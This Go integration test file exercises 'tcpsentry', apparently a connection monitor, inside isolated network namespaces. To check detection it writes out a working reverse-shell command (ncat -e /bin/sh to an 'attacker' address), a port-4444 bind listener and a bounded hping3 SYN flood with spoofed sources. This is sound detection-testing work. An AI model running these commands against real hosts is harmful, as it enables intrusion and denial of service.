package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tcpsentry/tcpsentry/internal/testenv"
)

// lab is two network namespaces joined by a veth pair: an attacker at
// .1 and a victim at .2 of a /24 only this test uses.
type lab struct {
	attacker, victim     string
	attackerIP, victimIP string
}

func newLab(t *testing.T) *lab {
	t.Helper()
	a, v := newNetns(t), newNetns(t)
	n := netnsCounter.Add(1)
	subnet := fmt.Sprintf("10.250.%d", (os.Getpid()+int(n))%250+1)
	l := &lab{attacker: a, victim: v, attackerIP: subnet + ".1", victimIP: subnet + ".2"}
	va, vb := fmt.Sprintf("tsa%d-%d", os.Getpid()%100000, n), fmt.Sprintf("tsv%d-%d", os.Getpid()%100000, n)
	mustRun(t, "ip", "link", "add", va, "netns", a, "type", "veth", "peer", "name", vb, "netns", v)
	mustRun(t, "ip", "-n", a, "addr", "add", l.attackerIP+"/24", "dev", va)
	mustRun(t, "ip", "-n", v, "addr", "add", l.victimIP+"/24", "dev", vb)
	mustRun(t, "ip", "-n", a, "link", "set", va, "up")
	mustRun(t, "ip", "-n", v, "link", "set", vb, "up")
	// Replies to spoofed flood sources leave through the attacker side,
	// which does not forward them: they go nowhere outside the lab.
	mustRun(t, "ip", "-n", v, "route", "add", "default", "via", l.attackerIP)
	return l
}

// jsonAlert is the part of a check --json line the tests read.
type jsonAlert struct {
	ID       string `json:"id"`
	Detector string `json:"detector"`
	Title    string `json:"title"`
	Severity string `json:"severity"`
	Status   string `json:"status"`
	Src      string `json:"src"`
	Dst      string `json:"dst"`
	DstPort  *int   `json:"dst_port"`
	Process  *struct {
		PID  int    `json:"pid"`
		Name string `json:"name"`
	} `json:"process"`
	Evidence map[string]any `json:"evidence"`
	Attack   []string       `json:"attack"`
	Raised   time.Time      `json:"raised"`
}

func parseAlerts(t *testing.T, out string) []jsonAlert {
	t.Helper()
	var as []jsonAlert
	for i, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if line == "" {
			continue
		}
		var a jsonAlert
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			t.Fatalf("check --json line %d: %v\n%s", i+1, err, line)
		}
		as = append(as, a)
	}
	return as
}

func findAlert(as []jsonAlert, detector string, match func(jsonAlert) bool) (jsonAlert, bool) {
	for _, a := range as {
		if a.Detector == detector && (match == nil || match(a)) {
			return a, true
		}
	}
	return jsonAlert{}, false
}

func dumpAlerts(as []jsonAlert) string {
	var b strings.Builder
	for _, a := range as {
		fmt.Fprintf(&b, "  %s %s %s\n", a.Severity, a.Detector, a.Title)
	}
	return b.String()
}

// checkJSON runs check --json without a store and returns the alerts and the exit code.
func checkJSON(t *testing.T, args ...string) ([]jsonAlert, int) {
	t.Helper()
	out, stderr, code := run(t, append([]string{"check", "--json", "--no-store"}, args...)...)
	if code == 2 {
		t.Fatalf("check failed: %s", stderr)
	}
	return parseAlerts(t, out), code
}

func TestCheckReverseShellAndSuspiciousListener(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	testenv.NeedTool(t, "pgrep")
	l := newLab(t)
	const cport = 8443
	startBackground(t, "ip", "netns", "exec", l.attacker, ncat, "-l", "-k", l.attackerIP, strconv.Itoa(cport))
	waitFor(t, 5*time.Second, "attacker listener", func() bool { return listening(l.attacker, cport) })
	shell, _ := startBackground(t, "ip", "netns", "exec", l.victim, ncat, "-e", "/bin/sh", l.attackerIP, strconv.Itoa(cport))
	startBackground(t, "ip", "netns", "exec", l.victim, ncat, "-l", "-k", "0.0.0.0", "4444")
	waitFor(t, 5*time.Second, "bind listener", func() bool { return listening(l.victim, 4444) })
	var shPID int
	waitFor(t, 5*time.Second, "ncat -e to spawn sh", func() bool {
		out, _ := exec.Command("pgrep", "-P", strconv.Itoa(shell.Process.Pid)).Output()
		shPID, _ = strconv.Atoi(strings.TrimSpace(string(out)))
		return shPID > 0
	})

	alerts, code := checkJSON(t, "--netns", l.victim)
	if code != 1 {
		t.Errorf("exit code %d with findings, want 1", code)
	}
	rs, ok := findAlert(alerts, "reverse-shell", func(a jsonAlert) bool { return a.Process != nil && a.Process.PID == shPID })
	if !ok {
		t.Fatalf("no reverse-shell alert for sh pid %d:\n%s", shPID, dumpAlerts(alerts))
	}
	if rs.Severity != "critical" || rs.Process.Name != "sh" || rs.Evidence["peer"] != fmt.Sprintf("%s:%d", l.attackerIP, cport) {
		t.Errorf("reverse-shell alert = %+v", rs)
	}
	isBind := func(a jsonAlert) bool { return a.DstPort != nil && *a.DstPort == 4444 }
	if _, ok := findAlert(alerts, "unauthorized-listener", isBind); !ok {
		t.Errorf("no unauthorized-listener for 4444:\n%s", dumpAlerts(alerts))
	}
	if a, ok := findAlert(alerts, "suspicious-port", isBind); !ok || a.Severity != "high" {
		t.Errorf("no high suspicious-port for 4444:\n%s", dumpAlerts(alerts))
	}
	// The same host recorded with conns --json and checked elsewhere.
	rec, _, _ := run(t, "conns", "--netns", l.victim, "--json")
	recFile := filepath.Join(t.TempDir(), "victim.jsonl")
	if err := os.WriteFile(recFile, []byte(rec), 0o644); err != nil {
		t.Fatal(err)
	}
	recAlerts, code := checkJSON(t, "--snapshot", recFile)
	if _, ok := findAlert(recAlerts, "suspicious-port", isBind); !ok || code != 1 {
		t.Errorf("check --snapshot: exit %d, alerts:\n%s", code, dumpAlerts(recAlerts))
	}
	// --min-severity critical keeps only the shell; exit 1 still.
	crit, code := checkJSON(t, "--netns", l.victim, "--min-severity", "critical")
	if code != 1 || len(crit) == 0 {
		t.Errorf("--min-severity critical: exit %d, %d alerts", code, len(crit))
	}
	for _, a := range crit {
		if a.Severity != "critical" {
			t.Errorf("--min-severity critical printed %s %s", a.Severity, a.Title)
		}
	}
}

func TestCheckSynFlood(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	hping := testenv.NeedTool(t, "hping3")
	l := newLab(t)
	const port = 8080
	startBackground(t, "ip", "netns", "exec", l.victim, ncat, "-l", "-k", "0.0.0.0", strconv.Itoa(port))
	waitFor(t, 5*time.Second, "victim listener", func() bool { return listening(l.victim, port) })
	// A bounded flood: 2,000 SYNs from random sources, over about 0.2 s.
	mustRun(t, "ip", "netns", "exec", l.attacker, "timeout", "30", hping, "-q", "-S", "--rand-source",
		"-p", strconv.Itoa(port), "-c", "2000", "-i", "u100", l.victimIP)
	alerts, code := checkJSON(t, "--netns", l.victim)
	a, ok := findAlert(alerts, "state-pile", func(a jsonAlert) bool { return a.Evidence["state"] == "SYN_RECV" })
	if !ok || code != 1 {
		out, _ := exec.Command("ip", "netns", "exec", l.victim, "ss", "-tan", "state", "syn-recv").Output()
		t.Fatalf("no SYN_RECV state-pile (exit %d):\n%s\nss:\n%.2000s", code, dumpAlerts(alerts), out)
	}
	if a.Dst != l.victimIP || a.DstPort == nil || *a.DstPort != port || a.Severity != "high" {
		t.Errorf("flood alert = %+v", a)
	}
}

// closeWaitHelper is run in a child process: it opens n connections to
// addr and never closes them, so after the server closes its ends they sit
// in CLOSE_WAIT, owned by the child.
func closeWaitHelper(addr string, n int) {
	conns := make([]net.Conn, 0, n)
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(3)
		}
		conns = append(conns, c)
	}
	fmt.Println("ready")
	time.Sleep(2 * time.Minute)
	_ = conns
}

func TestCheckCloseWaitPile(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	const n = 200
	go func() {
		for i := 0; i < n; i++ {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	child := exec.Command(self, "-test.run=^$")
	child.Env = append(os.Environ(), "TCPSENTRY_TEST_HELPER=closewait", "TCPSENTRY_TEST_ADDR="+ln.Addr().String(), "TCPSENTRY_TEST_N="+strconv.Itoa(n))
	stdout, _ := child.StdoutPipe()
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = child.Process.Kill(); _ = child.Wait() })
	buf := make([]byte, 6)
	if _, err := stdout.Read(buf); err != nil || string(buf) != "ready\n" {
		t.Fatalf("helper did not get ready: %q %v", buf, err)
	}
	port := strconv.Itoa(int(ln.Addr().(*net.TCPAddr).Port))
	waitFor(t, 10*time.Second, "200 sockets in CLOSE_WAIT", func() bool {
		out, _ := exec.Command("ss", "-tanH", "state", "close-wait", "dport = :"+port).Output()
		return strings.Count(string(out), "\n") >= n
	})
	alerts, _ := checkJSON(t)
	a, ok := findAlert(alerts, "state-pile", func(a jsonAlert) bool {
		return a.Evidence["state"] == "CLOSE_WAIT" && a.Process != nil && a.Process.PID == child.Process.Pid
	})
	if !ok {
		t.Fatalf("no CLOSE_WAIT state-pile naming pid %d:\n%s", child.Process.Pid, dumpAlerts(alerts))
	}
	if c, _ := a.Evidence["count"].(float64); c < n {
		t.Errorf("count = %v, want ≥ %d", a.Evidence["count"], n)
	}
}

func writeConfig(t *testing.T, yaml string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "tcpsentry.yaml")
	if err := os.WriteFile(p, []byte(yaml), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestCheckMissingService(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	ns := newNetns(t)
	cfg := writeConfig(t, "services:\n  expected:\n    - {name: test-svc, port: 7010, process: ncat}\n")
	svc, _ := startBackground(t, "ip", "netns", "exec", ns, ncat, "-l", "-k", "127.0.0.1", "7010")
	waitFor(t, 5*time.Second, "service", func() bool { return listening(ns, 7010) })
	alerts, _ := checkJSON(t, "--netns", ns, "--config", cfg)
	if a, ok := findAlert(alerts, "missing-service", nil); ok {
		t.Fatalf("running service reported missing: %+v", a)
	}
	_ = svc.Process.Kill()
	_ = svc.Wait()
	waitFor(t, 5*time.Second, "service to stop", func() bool { return !listening(ns, 7010) })
	alerts, code := checkJSON(t, "--netns", ns, "--config", cfg)
	a, ok := findAlert(alerts, "missing-service", nil)
	if !ok || code != 1 || a.Severity != "high" || !strings.Contains(a.Title, "test-svc") {
		t.Fatalf("stopped service not reported (exit %d):\n%s", code, dumpAlerts(alerts))
	}
}

func TestCheckBlocklistedIP(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	l := newLab(t)
	feed := filepath.Join(t.TempDir(), "drop.txt")
	if err := os.WriteFile(feed, []byte("# test feed\n192.0.2.0/24 ; SBL1\nnot-an-address\n"+l.attackerIP+"/32 ; SBL2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := writeConfig(t, "intel:\n  feeds:\n    - {name: lab-drop, path: "+feed+"}\n")
	startBackground(t, "ip", "netns", "exec", l.attacker, ncat, "-l", "-k", l.attackerIP, "9100")
	waitFor(t, 5*time.Second, "listener", func() bool { return listening(l.attacker, 9100) })
	startBackground(t, "ip", "netns", "exec", l.victim, ncat, l.attackerIP, "9100")
	waitFor(t, 5*time.Second, "connection", func() bool {
		out, _ := exec.Command("ip", "netns", "exec", l.victim, "ss", "-tnH", "state", "established").Output()
		return strings.Contains(string(out), l.attackerIP)
	})
	out, stderr, code := run(t, "check", "--json", "--no-store", "--netns", l.victim, "--config", cfg)
	if !strings.Contains(stderr, feed+":3") {
		t.Errorf("bad feed line not reported with file:line; stderr:\n%s", stderr)
	}
	alerts := parseAlerts(t, out)
	a, ok := findAlert(alerts, "blocklisted-ip", nil)
	if !ok || code != 1 || a.Evidence["feed"] != "lab-drop" || a.Evidence["reference"] != "SBL2" {
		t.Fatalf("no blocklisted-ip alert (exit %d):\n%s", code, dumpAlerts(alerts))
	}
}

func TestCheckBaselineNewDestination(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	l := newLab(t)
	store := filepath.Join(t.TempDir(), "store.db")
	for _, p := range []string{"9200", "9300"} {
		startBackground(t, "ip", "netns", "exec", l.attacker, ncat, "-l", "-k", l.attackerIP, p)
		waitFor(t, 5*time.Second, "listener "+p, func() bool { n, _ := strconv.Atoi(p); return listening(l.attacker, n) })
	}
	established := func(port string) func() bool {
		return func() bool {
			out, _ := exec.Command("ip", "netns", "exec", l.victim, "ss", "-tnH", "state", "established", "dport = :"+port).Output()
			return len(strings.TrimSpace(string(out))) > 0
		}
	}
	startBackground(t, "ip", "netns", "exec", l.victim, ncat, l.attackerIP, "9200")
	waitFor(t, 5*time.Second, "first connection", established("9200"))
	out, stderr, code := run(t, "baseline", "learn", "--for", "0s", "--netns", l.victim, "--store", store)
	if code != 0 {
		t.Fatalf("baseline learn: %s%s", out, stderr)
	}
	show, _, _ := run(t, "baseline", "show", "--store", store)
	if !strings.Contains(show, "tcp/9200") {
		t.Fatalf("baseline show lacks the learned port:\n%s", show)
	}
	out, stderr, code = run(t, "check", "--json", "--netns", l.victim, "--store", store)
	if code == 2 {
		t.Fatal(stderr)
	}
	for _, a := range parseAlerts(t, out) {
		if a.Detector == "process-network" {
			t.Errorf("learned destination reported: %s", a.Title)
		}
	}
	startBackground(t, "ip", "netns", "exec", l.victim, ncat, l.attackerIP, "9300")
	waitFor(t, 5*time.Second, "second connection", established("9300"))
	out, stderr, code = run(t, "check", "--json", "--netns", l.victim, "--store", store)
	if code == 2 {
		t.Fatal(stderr)
	}
	as := parseAlerts(t, out)
	a, ok := findAlert(as, "process-network", func(a jsonAlert) bool { return strings.Contains(a.Title, "9300") })
	if !ok || a.Process == nil || a.Process.Name != "ncat" {
		t.Fatalf("new destination not reported:\n%s", dumpAlerts(as))
	}
}

func TestCheckExitCodesAndRenotify(t *testing.T) {
	ncat := testenv.NeedTool(t, "ncat")
	ns := newNetns(t)
	store := filepath.Join(t.TempDir(), "store.db")
	// An empty namespace: nothing to report.
	_, stderr, code := run(t, "check", "--netns", ns, "--store", store)
	if code != 0 {
		t.Fatalf("quiet namespace: exit %d, want 0: %s", code, stderr)
	}
	srv, _ := startBackground(t, "ip", "netns", "exec", ns, ncat, "-l", "-k", "0.0.0.0", "31337")
	waitFor(t, 5*time.Second, "listener", func() bool { return listening(ns, 31337) })
	count := func(out string) int { return len(parseAlerts(t, out)) }

	out, _, code := run(t, "check", "--json", "--netns", ns, "--store", store)
	first := count(out)
	if code != 1 || first == 0 {
		t.Fatalf("first run: exit %d, %d alerts; want 1 and some", code, first)
	}
	for _, a := range parseAlerts(t, out) {
		if a.Status != "new" {
			t.Errorf("first run status %q", a.Status)
		}
	}
	out, _, code = run(t, "check", "--json", "--netns", ns, "--store", store)
	if code != 1 || count(out) != 0 {
		t.Errorf("second run: exit %d, %d alerts printed; want 1 and none re-sent", code, count(out))
	}
	out, _, code = run(t, "check", "--json", "--netns", ns, "--store", store, "--renotify", "1ns")
	if code != 1 || count(out) != first {
		t.Errorf("--renotify 1ns: exit %d, %d alerts; want 1 and %d", code, count(out), first)
	}
	out, _, _ = run(t, "check", "--json", "--netns", ns, "--store", store, "--all")
	if count(out) != first {
		t.Errorf("--all printed %d, want %d", count(out), first)
	}
	// Above every finding's severity the exit code is 0.
	if _, _, code = run(t, "check", "--netns", ns, "--store", store, "--min-severity", "critical"); code != 0 {
		t.Errorf("--min-severity critical: exit %d, want 0", code)
	}
	_ = srv.Process.Kill()
	_ = srv.Wait()
	waitFor(t, 5*time.Second, "listener gone", func() bool { return !listening(ns, 31337) })
	out, _, code = run(t, "check", "--json", "--netns", ns, "--store", store)
	cleared := 0
	for _, a := range parseAlerts(t, out) {
		if a.Status == "cleared" {
			cleared++
		}
	}
	if code != 0 || cleared != first {
		t.Errorf("after stopping: exit %d, %d cleared; want 0 and %d", code, cleared, first)
	}
	if _, stderr, code := run(t, "check", "--min-severity", "dire"); code != 2 || !strings.Contains(stderr, "dire") {
		t.Errorf("bad flag: exit %d %q", code, stderr)
	}
}

func TestCheckBadConfig(t *testing.T) {
	cfg := writeConfig(t, "detectors:\n  state-pile:\n    syn_recv: -3\n    bogus: 1\n")
	_, stderr, code := run(t, "check", "--no-store", "--config", cfg)
	if code != 2 || !strings.Contains(stderr, cfg+":4") || !strings.Contains(stderr, "bogus") {
		t.Errorf("exit %d, stderr %q; want 2 naming %s:4 and the key", code, stderr, cfg)
	}
	out, stderr, code := run(t, "config", "--config", writeConfig(t, "listeners:\n  loopback: low\n"))
	if code != 0 || !strings.Contains(out, "loopback: low") || !strings.Contains(out, "syn_recv: 256") {
		t.Errorf("config: exit %d %s\n%s", code, stderr, out)
	}
}
